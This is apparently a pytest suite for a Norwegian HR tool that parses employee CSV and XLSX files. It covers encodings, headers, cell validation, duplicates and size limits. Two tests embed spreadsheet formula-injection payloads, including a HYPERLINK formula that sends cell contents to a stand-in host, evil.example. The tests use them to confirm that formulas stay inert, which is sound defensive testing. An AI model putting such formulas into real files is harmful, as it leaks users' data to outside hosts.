"""The people-file parser on its own: encodings, separators, headers, cells. No database."""

from __future__ import annotations

import codecs
import datetime as dt
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from xlsxwriter import Workbook as XlsxWriterWorkbook

from hjemmekontor.organisation.importing import ImportFileError, check_size, parse_people_file
from tests.organisation.org_files import LIMIT, csv_file, parse

HEADER = ["Ansattnr", "Navn", "E-post", "Enhet"]


def test_windows_1252_file_with_norwegian_letters_is_decoded_and_named() -> None:
    data = csv_file(
        [HEADER, ["1001", "Åse Ærø Ødegård", "ase@demo.example", "Økonomi/Lønn"]],
        encoding="cp1252",
    )
    assert b"\xc5se" in data  # Å as one Windows-1252 byte, not UTF-8

    parsed = parse(data)

    assert parsed.encoding == "Windows-1252"
    assert parsed.rows[0].values["name"] == "Åse Ærø Ødegård"
    assert parsed.rows[0].values["unit"] == ["Økonomi", "Lønn"]
    assert parsed.rows[0].problems == []


def test_utf8_with_and_without_bom_are_told_apart() -> None:
    rows = [HEADER, ["1001", "Åse", "ase@demo.example", "Lønn"]]
    with_bom = parse(codecs.BOM_UTF8 + csv_file(rows))
    without = parse(csv_file(rows))

    assert with_bom.encoding == "UTF-8 med BOM"
    assert without.encoding == "UTF-8"
    # The BOM must not stick to the first header cell and hide the column.
    assert with_bom.columns[0] == ("Ansattnr", "employee_number")
    assert with_bom.rows[0].values == without.rows[0].values


def test_undecodable_bytes_are_refused_with_line_and_byte() -> None:
    # 0x81 is neither valid UTF-8 here nor defined in Windows-1252.
    data = b"navn;epost\r\nOla;ola@demo.example\r\nA\x81se;ase@demo.example\r\n"

    with pytest.raises(ImportFileError) as caught:
        parse(data, "ansatte.csv")

    message = str(caught.value)
    assert "ansatte.csv" in message
    assert "0x81" in message
    assert "linje 3" in message
    assert "CSV UTF-8" in message


def test_comma_separated_file_is_sniffed() -> None:
    data = csv_file([HEADER, ["1001", "Nordmann, Kari", "kari@demo.example", "IT"]], ",")

    parsed = parse(data)

    assert parsed.delimiter == ","
    assert parsed.rows[0].values["name"] == "Nordmann, Kari"


def test_unknown_separator_explains_that_the_header_was_not_recognised() -> None:
    data = b"ansattnr|navn|epost\r\n1001|Kari|kari@demo.example\r\n"

    with pytest.raises(ImportFileError) as caught:
        parse(data)

    message = str(caught.value)
    assert "ble ikke gjenkjent" in message
    assert "«ansattnr|navn|epost»" in message
    assert "semikolon (;) eller komma (,)" in message
    for expected in ("ansattnummer", "e-post", "navn", "enhet", "overordnet_kode", "verv"):
        assert expected in message


def test_missing_name_column_is_refused() -> None:
    data = csv_file([["ansattnr", "epost"], ["1001", "kari@demo.example"]])

    with pytest.raises(ImportFileError, match="mangler kolonnen «navn»"):
        parse(data)


def test_missing_both_identifier_columns_is_refused() -> None:
    data = csv_file([["navn", "enhet"], ["Kari", "IT"]])

    with pytest.raises(ImportFileError, match="mangler både «ansattnummer» og «e-post»"):
        parse(data)


def test_the_same_column_twice_is_refused() -> None:
    data = csv_file([["navn", "epost", "E-post"], ["Kari", "a@demo.example", "b@demo.example"]])

    with pytest.raises(ImportFileError, match="«epost» og «E-post»"):
        parse(data)


@pytest.mark.parametrize(
    "data",
    [b"", b"   \r\n\r\n", codecs.BOM_UTF8],
    ids=["no bytes", "blank lines", "only a BOM"],
)
def test_empty_file_is_refused(data: bytes) -> None:
    with pytest.raises(ImportFileError, match="er tom"):
        parse(data, "tom.csv")


def test_header_without_people_is_refused() -> None:
    with pytest.raises(ImportFileError, match="ingen personer"):
        parse(csv_file([HEADER]))


def test_file_over_the_limit_is_refused_with_the_limit_in_the_message() -> None:
    limit = 2 * 1024 * 1024
    with pytest.raises(ImportFileError) as caught:
        parse_people_file(b"navn;epost\r\n" + b"x" * limit, "stor.csv", limit)
    assert "grensen er 2 MB" in str(caught.value)
    assert "stor.csv" in str(caught.value)
    # The size check alone, as the upload form runs it before reading any byte.
    with pytest.raises(ImportFileError, match="50 MB; grensen er 2 MB"):
        check_size(50 * 1024 * 1024, limit, "stor.csv")
    check_size(limit, limit, "akkurat.csv")


def test_headers_match_whatever_the_case_spacing_and_language() -> None:
    data = csv_file(
        [
            [" EMPLOYEE_NUMBER ", "Name", "e_post", "Unit", "IS MANAGER", "Kjønn", "Birth-Year"],
            ["7", "Kari", "kari@demo.example", "IT", "yes", "f", "1985"],
        ]
    )

    values = parse(data).rows[0].values

    assert values == {
        "employee_number": "7",
        "name": "Kari",
        "email": "kari@demo.example",
        "unit": ["IT"],
        "is_manager": True,
        "gender": "female",
        "birth_year": 1985,
    }


def test_a_nynorsk_file_is_read_like_a_bokmal_one() -> None:
    data = csv_file(
        [
            ["Tilsettnummer", "Namn", "E-post", "Eining", "Leiar", "Verv", "Kjønn", "Fødselsår"],
            ["7", "Kari", "kari@demo.example", "IT/Drift", "ja", "verneombod", "kvinneleg", "1985"],
            ["8", "Ola", "ola@demo.example", "IT", "nei", "tillitsvald", "anna", "1990"],
        ]
    )

    first, second = (row.values for row in parse(data).rows)

    assert first == {
        "employee_number": "7",
        "name": "Kari",
        "email": "kari@demo.example",
        "unit": ["IT", "Drift"],
        "is_manager": True,
        "representative_role": "safety",
        "gender": "female",
        "birth_year": 1985,
    }
    assert (second["representative_role"], second["gender"]) == ("union", "other")


def test_columns_that_are_not_register_data_are_neither_read_nor_kept() -> None:
    data = csv_file([["navn", "epost", "Personnummer"], ["Kari", "k@demo.example", "01018012345"]])

    parsed = parse(data)

    assert parsed.ignored_columns == ["Personnummer"]
    assert "01018012345" not in repr(parsed.rows[0].to_json())


@pytest.mark.parametrize(
    ("column", "cell", "field", "value"),
    [
        ("leder", "x", "is_manager", True),
        ("leder", "JA", "is_manager", True),
        ("leder", "", "is_manager", False),
        ("leder", "0", "is_manager", False),
        ("manager", "true", "is_manager", True),
        ("verv", "Verneombud", "representative_role", "safety"),
        ("verv", "tillitsvalgt", "representative_role", "union"),
        ("verv", "begge", "representative_role", "both"),
        ("representative_role", "union", "representative_role", "union"),
        ("verv", "", "representative_role", ""),
        ("kjønn", "K", "gender", "female"),
        ("kjønn", "mann", "gender", "male"),
        ("kjønn", "annet", "gender", "other"),
        ("gender", "Female", "gender", "female"),
        ("aldersgruppe", "30–39", "age_group", "30-39"),
        ("age_group", "60+", "age_group", "60+"),
        ("aldersgruppe", "under 30", "age_group", "<30"),
        ("fødselsdato", "07.03.1984", "birth_year", 1984),
        ("fødselsdato", "7.3.1984", "birth_year", 1984),
        ("fodselsdato", "1984-03-07", "birth_year", 1984),
        ("fødselsår", "1984", "birth_year", 1984),
    ],
)
def test_cell_values_are_read_in_norwegian_and_english(
    column: str, cell: str, field: str, value: object
) -> None:
    data = csv_file([["navn", "epost", column], ["Kari", "k@demo.example", cell]])

    row = parse(data).rows[0]

    assert row.problems == []
    assert row.values[field] == value


@pytest.mark.parametrize(
    ("column", "cell", "reason"),
    [
        ("leder", "kanskje", "«kanskje» er verken ja eller nei"),
        ("verv", "sjef", "Ukjent verv «sjef»"),
        ("kjønn", "q", "Ukjent kjønn «q»"),
        ("aldersgruppe", "25-35", "Ukjent aldersgruppe «25-35»"),
        ("fødselsdato", "31.02.1980", "Fødselsdatoen «31.02.1980» finnes ikke"),
        ("fødselsdato", "01.02.80", "ikke på formen dd.mm.åååå"),
        ("fødselsår", "2031", "utenfor 1900–2025"),
        ("enhet", "Økonomi//Lønn", "har et tomt ledd"),
    ],
)
def test_bad_cells_reject_the_line_with_column_and_value(
    column: str, cell: str, reason: str
) -> None:
    data = csv_file([["navn", "epost", column], ["Kari", "k@demo.example", cell]])

    row = parse(data).rows[0]

    assert len(row.problems) == 1
    assert row.problems[0].startswith(f"{column}: ")
    assert reason in row.problems[0]


def test_invalid_email_rejects_the_line_and_names_the_value() -> None:
    parsed = parse(
        csv_file(
            [
                HEADER,
                ["1", "Kari", "kari@demo.example", "IT"],
                ["2", "Ola", "ola(at)demo.example", "IT"],
                ["3", "Per", "per@", "IT"],
            ]
        )
    )

    assert [row.problems for row in parsed.rows[:1]] == [[]]
    assert parsed.rows[1].problems == ["E-post: Ugyldig e-postadresse «ola(at)demo.example»."]
    assert parsed.rows[2].problems == ["E-post: Ugyldig e-postadresse «per@»."]


def test_line_without_name_or_identifier_is_rejected() -> None:
    parsed = parse(csv_file([HEADER, ["", "", "", "IT"], ["1", "", "a@demo.example", "IT"]]))

    assert parsed.rows[0].problems == [
        "Navn: Navn mangler.",
        "Linjen har verken ansattnummer eller e-postadresse.",
    ]
    assert parsed.rows[1].problems == ["Navn: Navn mangler."]


def test_duplicate_employee_numbers_reject_every_line_that_shares_one() -> None:
    parsed = parse(
        csv_file(
            [
                HEADER,
                ["1001", "Kari", "kari@demo.example", "IT"],
                ["1002", "Ola", "ola@demo.example", "IT"],
                ["1001", "Per", "per@demo.example", "IT"],
            ]
        )
    )

    assert parsed.rows[1].problems == []
    for row in (parsed.rows[0], parsed.rows[2]):
        assert row.problems == ["Ansattnummer «1001» står på flere linjer: 2, 4."]


def test_duplicate_emails_are_found_whatever_their_case() -> None:
    parsed = parse(
        csv_file(
            [
                HEADER,
                ["1", "Kari", "Kari@Demo.example", "IT"],
                ["2", "K", "kari@demo.example", "IT"],
            ]
        )
    )

    assert all("står på flere linjer: 2, 3" in row.problems[0] for row in parsed.rows)


def test_formula_in_a_csv_cell_stays_plain_text() -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1;"Klikk")'
    parsed = parse(csv_file([HEADER, ["1", formula, "k@demo.example", "IT"]]))

    assert parsed.rows[0].values["name"] == formula
    assert parsed.rows[0].cells["name"] == formula


def test_line_numbers_count_physical_lines_when_a_cell_spans_two() -> None:
    data = (
        b'navn;epost;enhet\r\n"Kari\r\nNordmann";kari@demo.example;IT\r\n\r\n'
        b"Ola;ola(at)demo.example;IT\r\n"
    )

    parsed = parse(data)

    assert [row.line for row in parsed.rows] == [2, 5]
    assert parsed.rows[1].problems


def test_a_line_with_more_cells_than_the_header_is_rejected() -> None:
    parsed = parse(b"navn,epost\r\nNordmann, Kari,kari@demo.example\r\n")

    assert "Linjen har 3 felt, men overskriften har 2" in parsed.rows[0].problems[0]


def _xlsx_with_openpyxl(rows: list[list[object]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_xlsx_cells_are_read_as_text_numbers_and_dates() -> None:
    data = _xlsx_with_openpyxl(
        [
            ["Ansattnummer", "Navn", "E-post", "Enhet", "Leder", "Fødselsdato"],
            [1001, "Åse Ødegård", "ase@demo.example", "Økonomi/Lønn", True, dt.date(1980, 2, 1)],
            [],
            [1002.0, "Ola", "ola@demo.example", "IT", "nei", "15.06.1990"],
        ]
    )

    parsed = parse(data, "ansatte.xlsx")

    assert parsed.encoding == "XLSX"
    assert [row.line for row in parsed.rows] == [2, 4]
    assert parsed.rows[0].values == {
        "employee_number": "1001",
        "name": "Åse Ødegård",
        "email": "ase@demo.example",
        "unit": ["Økonomi", "Lønn"],
        "is_manager": True,
        "birth_year": 1980,
    }
    assert parsed.rows[1].values["employee_number"] == "1002"
    assert parsed.rows[1].values["birth_year"] == 1990


def test_xlsx_formula_without_a_cached_value_is_kept_as_its_text() -> None:
    # openpyxl writes formulas without computing them, as a hostile file would.
    formula = '=HYPERLINK("http://evil.example","Klikk")'
    data = _xlsx_with_openpyxl([["navn", "epost"], [formula, "k@demo.example"]])

    parsed = parse(data, "ansatte.xlsx")

    assert parsed.rows[0].values["name"] == formula


def test_xlsx_formula_with_a_cached_value_gives_that_value_unevaluated() -> None:
    buffer = io.BytesIO()
    book = XlsxWriterWorkbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["navn", "epost"])
    # The cached result deliberately differs from what the formula would compute:
    # reading it proves the formula itself was never run.
    sheet.write_formula(1, 0, '=CONCATENATE("Ev";"il")', None, "Kari Nordmann")
    sheet.write_string(1, 1, "kari@demo.example")
    book.close()

    parsed = parse(buffer.getvalue(), "ansatte.xlsx")

    assert parsed.rows[0].values["name"] == "Kari Nordmann"


def test_broken_xlsx_and_old_xls_files_are_refused_clearly() -> None:
    with pytest.raises(ImportFileError, match="kan ikke leses som Excel-fil"):
        parse(b"PK\x03\x04 not really a zip", "ansatte.xlsx")
    with pytest.raises(ImportFileError, match=r"gamle Excel-formatet \(.xls\)"):
        parse(b"\xd0\xcf\x11\xe0" + b"\x00" * 100, "ansatte.xls")


def test_binary_file_is_refused_as_not_text() -> None:
    with pytest.raises(ImportFileError, match="ikke ut til å være en tekstfil"):
        parse(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "bilde.csv")


def test_parser_respects_the_limit_it_is_given() -> None:
    data = csv_file([HEADER, ["1", "Kari", "k@demo.example", "IT"]])
    assert len(data) < LIMIT
    with pytest.raises(ImportFileError, match="grensen er"):
        parse_people_file(data, "ansatte.csv", len(data) - 1)


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=400))
def test_any_bytes_give_rows_or_a_clear_refusal_never_a_crash(data: bytes) -> None:
    try:
        parsed = parse(b"navn;epost;enhet;leder;kj\xc3\xb8nn\r\n" + data)
    except ImportFileError as error:
        assert "ansatte.csv" in str(error)
    else:
        for row in parsed.rows:
            assert row.line >= 2
            assert row.problems or row.values.get("name")


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.lists(st.text(max_size=30), min_size=1, max_size=6),
        min_size=1,
        max_size=8,
    )
)
def test_any_table_of_text_gives_rows_or_a_clear_refusal(table: list[list[str]]) -> None:
    data = csv_file([["Ansattnr", "Navn", "E-post", "Enhet", "Verv", "Fødselsdato"], *table])
    try:
        parsed = parse(data)
    except ImportFileError as error:
        assert "ansatte.csv" in str(error)
    else:
        for row in parsed.rows:
            # A line is either rejected with a reason or has what a person needs.
            identified = row.values.get("employee_number") or row.values.get("email")
            assert row.problems or (row.values.get("name") and identified)
